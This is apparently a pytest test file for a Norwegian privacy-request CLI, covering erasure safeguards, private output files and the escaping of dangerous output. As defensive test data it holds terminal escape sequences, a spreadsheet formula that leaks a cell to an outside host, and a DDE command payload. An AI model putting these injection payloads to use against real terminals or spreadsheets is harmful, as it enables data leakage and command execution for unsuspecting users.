"""Destructive commands never guess, output paths are checked first, and output cannot attack its reader."""

from __future__ import annotations

import io
from datetime import date
from email import message_from_bytes
from email.policy import default as default_policy

import pytest
from sqlalchemy import func, select

from intake.cli import main
from models import AccessRequest, AuditEntry, Customer, Message, ReviewItem
from models.session import transaction
from rules.inert import spreadsheet_safe, visible

ESCAPE_SUBJECT = "Tilbud \x1b]0;pwned\x07\x1b[2J\u202eferdig"


@pytest.fixture
def intake(tmp_path, database_url, world, capsys, monkeypatch, login):
    monkeypatch.setenv("INTAKE_HASH_KEY", "privacy-test-key")
    monkeypatch.delenv("INTAKE_STAFF", raising=False)
    config = tmp_path / "config.toml"
    config.write_text(f"[database]\nurl = '{database_url}'\n[daemon]\ndata_dir = '{tmp_path / 'var'}'\n", encoding="utf-8")

    def run(*argv, code=0):
        login.follow(argv)
        result = main(["--config", str(config), *argv])
        captured = capsys.readouterr()
        assert result == code, captured.err
        return captured.out if code == 0 else captured.err
    return run


def state(sessions) -> tuple:
    """Everything an erasure would change: customers, stored mail, requests, audit entries."""
    with sessions() as session:
        return (sorted(session.scalars(select(Customer.customer_id))),
                session.scalar(select(func.count()).select_from(Message).where(Message.state == "stored")),
                session.scalar(select(func.count()).select_from(AccessRequest)),
                session.scalar(select(func.count()).select_from(AuditEntry).where(AuditEntry.action != "refused")))


@pytest.mark.parametrize("query, reason", [
    ("te", "ingen har akkurat det navnet"),
    ("Ingrid", "2 person(er) har et navn som begynner slik"),
    ("Ingrid Sol", "har et navn som begynner slik"),
    ("912 34 567", "ikke telefonnummer eller eiendom"),
    ("3201-12/345", "ikke telefonnummer eller eiendom"),
])
def test_erase_on_anything_but_an_exact_subject_does_nothing_and_says_why(intake, sessions, query, reason):
    before = state(sessions)
    message = intake("erase", query, "--yes", "--as", "rita", code=3)
    assert reason in message and "ingenting er endret" in message
    assert state(sessions) == before


@pytest.mark.parametrize("query", ["K1004", "k1004 ", "old@example.no", "Olav Gammel", "olav  GAMMEL"])
def test_erase_acts_on_a_customer_id_an_exact_address_or_a_full_name(intake, sessions, query):
    assert "Slettet" in intake("erase", query, "--yes", "--as", "rita")
    with sessions() as session:
        assert session.get(Customer, "K1004") is None


def test_erase_by_fodselsnummer_finds_the_person_only_known_from_the_mail(intake):
    preview = intake("erase", "150765 00565", "--dry-run", "--as", "rita")
    assert "ingenting er endret ennå" in preview
    assert "15076500565" not in preview and "150765" not in preview  # a letter never greets a person by their number


def test_erase_out_to_a_missing_folder_changes_nothing(intake, sessions, tmp_path):
    before = state(sessions)
    message = intake("erase", "K1004", "--yes", "--out", str(tmp_path / "no" / "such" / "dir" / "svar.txt"), "--as", "rita", code=3)
    assert "finnes ikke" in message
    assert state(sessions) == before


def test_erase_answer_is_written_private_and_printed(intake, tmp_path):
    out = tmp_path / "svar.txt"
    printed = intake("erase", "K1004", "--yes", "--out", str(out), "--as", "rita")
    assert out.read_text(encoding="utf-8") == printed and (out.stat().st_mode & 0o777) == 0o600


def test_an_answer_that_cannot_be_put_in_place_after_the_erasure_is_still_printed(intake, sessions, tmp_path, monkeypatch,
                                                                                   capsys, login):
    from intake.errors import OutputPathError
    from intake.files import StagedFile

    def fail(self):
        raise OutputPathError("kan ikke skrive svar.txt: disken er full")
    monkeypatch.setattr(StagedFile, "publish", fail)
    login.name = "rita"
    code = main(["--config", str(tmp_path / "config.toml"), "erase", "K1004", "--yes", "--out", str(tmp_path / "svar.txt"),
                 "--as", "rita"])
    captured = capsys.readouterr()
    assert code == 3 and "disken er full" in captured.err
    assert "Svar på krav om sletting" in captured.out  # the erasure is done, and its answer is not lost
    with sessions() as session:
        assert session.get(Customer, "K1004") is None
        assert session.scalar(select(AccessRequest.status)) == "open"  # answered only when the answer is sent (issue 12)


def test_without_a_terminal_a_destructive_command_needs_yes(intake, sessions, world):
    before = state(sessions)
    for argv in (("erase", "K1004"), ("rectify", "K1001", "--set", "phone=+47 400 00 000", "--reason", "r")):
        assert "bekreft med --yes" in intake(*argv, "--as", "rita", code=3)
    assert state(sessions) == before


def test_at_a_terminal_the_operator_sees_who_and_what_and_can_say_no(intake, sessions, monkeypatch):
    before = state(sessions)

    class Terminal(io.StringIO):
        def isatty(self):
            return True
    monkeypatch.setattr("sys.stdin", Terminal("n\n"))
    message = intake("erase", "K1004", "--as", "rita", code=3)
    assert "ikke bekreftet" in message
    assert state(sessions) == before
    monkeypatch.setattr("sys.stdin", Terminal("y\n"))
    out = intake("erase", "K1004", "--as", "rita")
    assert "Sletting for Olav Gammel (K1004)" in out and "Utføre dette?" in out and "Svar på krav om sletting" in out


def test_hold_lift_and_retention_approve_show_what_they_do_before_asking(intake, world, monkeypatch):
    class Terminal(io.StringIO):
        def isatty(self):
            return True
    intake("hold", "set", "message", str(world.expired_on_hold), "--reason", "klagesak", "--as", "rita")
    monkeypatch.setattr("sys.stdin", Terminal("n\n"))
    assert "ikke bekreftet" in intake("hold", "lift", "1", "--as", "rita", code=3)
    assert "klagesak" in intake("hold", "list", "--as", "rita")
    intake("retention", "propose", "--as", "kari")
    monkeypatch.setattr("sys.stdin", Terminal("y\n"))
    out = intake("retention", "approve", "1", "--as", "rita")
    assert "Forslag #1 fra kari" in out and "avhendes for godt" in out and "avhendet" in out


def test_access_request_out_to_a_missing_folder_registers_nothing(intake, sessions, tmp_path):
    before = state(sessions)
    assert "finnes ikke" in intake("access-request", "K1001", "--out", str(tmp_path / "no" / "dir"), "--as", "kari", code=3)
    assert state(sessions) == before
    folder = tmp_path / "pakker"
    assert "innsyn-1" in intake("access-request", "K1001", "--out", str(folder), "--as", "kari")
    modes = {p.name: p.stat().st_mode & 0o777 for p in (folder / "innsyn-1").rglob("*")}
    assert modes["innsyn.txt"] == modes["data.json"] == 0o600 and modes["vedlegg"] == 0o700
    assert not [p for p in folder.iterdir() if p.name.startswith(".")]


def test_report_out_to_a_missing_folder_fails_before_anything(intake, tmp_path):
    assert "finnes ikke" in intake("report", "retention", "--out", str(tmp_path / "nei" / "r.eml"), code=3)
    out = tmp_path / "r.eml"
    intake("report", "retention", "--out", str(out))
    assert (out.stat().st_mode & 0o777) == 0o600


def test_an_escape_sequence_in_a_subject_is_printed_visibly(intake, sessions, world):
    with transaction(sessions) as session:
        session.get(Message, world.open_project_mail).subject = ESCAPE_SUBJECT
        session.get(Message, world.neighbour_mail).subject = ESCAPE_SUBJECT
        session.add(ReviewItem(message_pk=world.neighbour_mail, reason="svak", candidates=[]))
    for out in (intake("lookup", "K1001", "--as", "kari"), intake("review", "--as", "kari"),
                intake("erase", "K1001", "--dry-run", "--as", "rita")):
        assert "\x1b" not in out and "\x07" not in out and "\u202e" not in out
        # (click itself drops colour/cursor sequences when not at a terminal; the title-setting one it lets through)
        assert "Tilbud \\x1b]0;pwned\\x07" in out and "\\u202eferdig" in out


def test_a_name_with_control_characters_cannot_reach_an_error_line(intake):
    message = intake("lookup", "--as", "kari", "--choose", "x\x1b[31m", "K1001", code=2)
    assert "\x1b" not in message


def test_a_formula_in_a_records_field_is_escaped_in_the_reports_csv(intake, sessions, tmp_path):
    with transaction(sessions) as session:
        session.add(Customer(customer_id='=HYPERLINK("http://x.example/?"&A1)', name="Formel Person"))
    intake("access-request", '=HYPERLINK("http://x.example/?"&A1)', "--received", date.today().isoformat(), "--as", "kari")
    out = tmp_path / "r.eml"
    intake("report", "retention", "--out", str(out))
    report = message_from_bytes(out.read_bytes(), policy=default_policy)
    csv_text = next(p for p in report.walk() if p.get_content_type() == "text/csv").get_content()
    assert ";'=HYPERLINK(" in csv_text.replace('"', "") and ";=HYPERLINK" not in csv_text.replace('"', "")


@pytest.mark.parametrize("cell, safe", [("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"), ("+1", "'+1"), ("-2", "'-2"),
                                        ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("K1001", "K1001"),
                                        ("", ""), (None, "")])
def test_spreadsheet_safe(cell, safe):
    assert spreadsheet_safe(cell) == safe


def test_visible_keeps_layout_and_shows_the_rest():
    assert visible("a\nb\tc") == "a\nb\tc"
    assert visible("a\nb", keep_newlines=False) == "a\\nb"
    assert visible("\x1b[31mrød\x9b\u202e\x00") == "\\x1b[31mrød\\x9b\\u202e\\x00"
    assert visible("Ødegård «sitat» – ok") == "Ødegård «sitat» – ok"


def test_the_cli_output_stream_shows_what_click_would_pass_to_a_terminal():
    from intake.cli.root import InertOutput

    target = io.StringIO()
    InertOutput(target).write("Emne: \x1b[2J\x1b]0;x\x07\rOK\r\n")
    assert target.getvalue() == "Emne: \\x1b[2J\\x1b]0;x\\x07\\x0dOK\n"  # a lone CR could overwrite the line


def test_the_monthly_report_quotes_the_audit_checkpoint(intake, sessions):
    intake("lookup", "K1001", "--as", "kari")
    intake("lookup", "K1002", "--as", "kari")
    with sessions() as session:
        head = session.scalar(select(AuditEntry.entry_hash).order_by(AuditEntry.seq.desc()).limit(1))
    text = intake("report", "retention")
    assert "REVISJONSLOGG (SJEKKPUNKT)" in text and head[:32] in text and "Kontrollert: hel." in text
    assert head[:32] in intake("audit", "verify")  # the same anchor as the report shows
